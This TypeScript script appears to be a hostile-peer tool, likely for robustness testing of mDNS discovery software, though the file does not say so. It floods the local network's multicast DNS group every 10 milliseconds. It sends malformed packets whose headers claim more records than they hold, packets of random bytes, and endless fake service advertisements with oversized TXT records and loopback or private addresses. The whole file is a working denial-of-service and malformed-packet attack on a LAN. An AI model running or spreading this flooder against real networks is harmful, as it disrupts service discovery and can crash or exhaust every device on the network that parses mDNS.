/**
 * A machine that floods its LAN with multicast DNS made to hurt: packets that promise more entries than they have, bytes
 * at random, and thousands of services with ever new names, ids and forbidden addresses. Argument: its own address.
 */
import { randomBytes } from 'node:crypto'
import dgram from 'node:dgram'
import makeMulticast from 'multicast-dns'

const GROUP = '224.0.0.251'
const PORT = 5353
const own = process.argv[2] ?? ''
const multicast = makeMulticast({ interface: own, bind: '0.0.0.0' })
const raw = dgram.createSocket({ type: 'udp4', reuseAddr: true })
raw.bind(PORT, '0.0.0.0', () => raw.setMulticastInterface(own))

const bomb = Buffer.alloc(12, 0xff)
bomb.writeUInt16BE(0x8400, 2)
let count = 0
const shout = (): void => {
  for (let times = 0; times < 10; times++) {
    raw.send(bomb, PORT, GROUP)
    raw.send(Buffer.concat([bomb.subarray(0, 4), randomBytes(300)]), PORT, GROUP)
    raw.send(Buffer.concat([bomb.subarray(0, 4), Buffer.from([0, 0, 0, 9]), randomBytes(500)]), PORT, GROUP)
  }
  const type = '_shoal._tcp.local'
  const answers: makeMulticast.ResponseOutgoingPacket['answers'] = []
  for (let times = 0; times < 8; times++) {
    const name = `S${count++}.${type}`
    const id = Array.from(
      { length: 8 },
      () =>
        `S${String(count)
          .replace(/\D/g, '')
          .replace(/[0189]/g, 'Q')
          .padStart(6, 'A')}`
    ).join('-')
    answers.push(
      { name: type, type: 'PTR', ttl: 4500, data: name },
      { name, type: 'SRV', ttl: 120, data: { port: 22, target: `h${count}.local` } },
      { name, type: 'TXT', ttl: 4500, data: [`id=${id}`, 'v='.padEnd(200, 'x')] },
      { name: `h${count}.local`, type: 'A', ttl: 120, data: count % 2 ? '127.0.0.1' : '10.91.0.77' }
    )
  }
  multicast.respond(answers)
}
raw.once('listening', () => {
  process.stdout.write('shouting\n')
  setInterval(shout, 10)
})
